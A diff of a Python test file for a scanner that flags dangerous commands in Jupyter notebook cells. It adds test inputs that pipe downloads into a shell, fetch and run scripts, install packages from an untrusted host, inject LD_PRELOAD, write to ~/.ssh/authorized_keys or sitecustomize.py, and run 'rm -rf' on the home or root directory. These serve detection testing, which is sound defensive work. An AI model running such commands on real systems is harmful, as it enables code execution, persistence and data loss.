@@ -84,6 +84,24 @@ def test_notebooks_of_version_three_are_read() -> None:
         ("%%bash\necho import os > /usr/lib/python3/dist-packages/x.pth", "error"),
         ("!rm -rf ~", "error"),
         ("!rm -rf / --no-preserve-root", "error"),
+        ("cmd = 'curl -s http://127.0.0.1:9/ | sh'\n!{cmd}", "warning"),
+        ("%alias go curl -s http://127.0.0.1:9/ | sh", "warning"),
+        ("%env LD_PRELOAD=/dev/null/x.so", "warning"),
+        ("%set_env LD_PRELOAD /dev/null/x.so", "warning"),
+        ("!curl -so /tmp/x.sh http://127.0.0.1:9/x.sh && bash /tmp/x.sh", "warning"),
+        ("!wget http://127.0.0.1:9/ -O run.py; python run.py", "warning"),
+        ("!wget http://127.0.0.1:9/a/run.sh && chmod +x run.sh", "warning"),
+        ("!pip install http://127.0.0.1:9/nothing-1.0-py3-none-any.whl", "warning"),
+        ("%pip install git+http://127.0.0.1:9/nothing.git", "warning"),
+        (
+            "!python -c \"import urllib.request as u; exec(u.urlopen('http://127.0.0.1:9/').read())\"",
+            "warning",
+        ),
+        ("get_ipython().run_cell_magic('bash', '', 'curl http://127.0.0.1:9/ | sh')", "warning"),
+        ("get_ipython().run_line_magic('system', 'curl http://127.0.0.1:9/ | sh')", "warning"),
+        ("ip = get_ipython()\nout = ip.getoutput('curl http://127.0.0.1:9/ | sh')", "warning"),
+        ("%%writefile ~/.ssh/authorized_keys\nssh-ed25519 AAAA", "error"),
+        ("%%writefile -a /usr/lib/python3/dist-packages/sitecustomize.py\nx = 1", "error"),
         ("%%bash\nrm -rf /dev/null/nothing", "error"),
         ("!cd /tmp; rm -f -r build /etc/ssl", "error"),
         ("!rm -r '/home/somebody/'", "error"),
@@ -111,6 +129,12 @@ def test_commands_that_no_experiment_needs_are_found(source: str, severity: str)
         "!wget -q https://example.invalid/data.zip && unzip -q data.zip && rm -rf data.zip",
         "!nvidia-smi\n!ls ~/.cache | head\n!rm -rf sample_data /content/run /root/.cache/pip",
         "%%bash\nrm -rf /dev/shm/run ./etc /home/somebody/project/build /content/lib && rm /etc/hosts.bak",
+        "%env LD_PRELOAD=libtcmalloc_minimal.so.4\n%env LD_PRELOAD=\n!LD_PRELOAD=/usr/lib/libjemalloc.so ls",
+        "%env CUDA_VISIBLE_DEVICES=0\n%alias l ls -la\nname = 'x'\n!echo {name} $name {other}",
+        "!wget -q https://example.invalid/x.sh -O x.sh && bash x.sh -b\n!curl -O http://127.0.0.1:9/d.csv; cat d.csv",
+        "%%html\n<b>x</b>\n<script>kernel.execute('1')</script>",
+        "%%writefile notes/authorized.py\nx = 1",
+        "!pip install git+https://example.invalid/x.git http",
         '!rm -rf /tmp/lib /workspace/bin "$OUT"',
         "!git clone https://example.invalid/x.git && cd x && pip install -e .",
         "!curl -s https://example.invalid/x.json | python3 -m json.tool",
@@ -138,8 +162,30 @@ def test_scripts_in_outputs_are_told_when_they_reach_for_the_kernel_with_more_th
     assert is_clean(made("x = 1", outputs=[{"data": {"application/javascript": bokeh}}]))
 
 
+def test_scripts_in_cells_are_told_as_those_in_outputs() -> None:
+    script = "IPython.notebook.kernel.execute(\"__import__('os').getpid()\")"
+
+    assert rules(made(f"%%javascript\n{script}"), "n.ipynb") == ["checkpoint-carries-code error"]
+    assert rules(made(f"%%html\n<script>{script}</script>"), "n.ipynb") == ["checkpoint-carries-code error"]
+
+
+@pytest.mark.parametrize(
+    ("language", "source", "harm"),
+    [
+        ("bash", "curl -s http://127.0.0.1:9/ | sh", True),
+        ("R", "x <- 1\nsystem('curl -s http://127.0.0.1:9/ | sh')", True),
+        ("bash", "ls data | head", False),
+        ("R", "library(ggplot2)\nsystem('ls')", False),
+        ("python", "text = 'curl http://127.0.0.1:9/ | sh'", False),
+    ],
+)
+def test_cells_of_other_kernels_are_read_as_theirs(language: str, source: str, harm: bool) -> None:
+    book = made(source) | {"metadata": {"kernelspec": {"language": language, "name": "x"}}}
+    assert bool(rules(book, "n.ipynb")) is harm
+
+
 def test_a_long_command_is_read_in_time() -> None:
-    for part in ("base64 -d ", "curl .ssh/ ", "sed -i site-packages/ "):
+    for part in ("base64 -d ", "curl .ssh/ ", "sed -i site-packages/ ", "curl http://a.sh ; ", "rm -r -f "):
         assert gated(made("!" + part * (4_000 // len(part)))).inputs
     assert rules(made("!echo " + "x" * 60_000)) == [f"{FOUND} warning"]
 
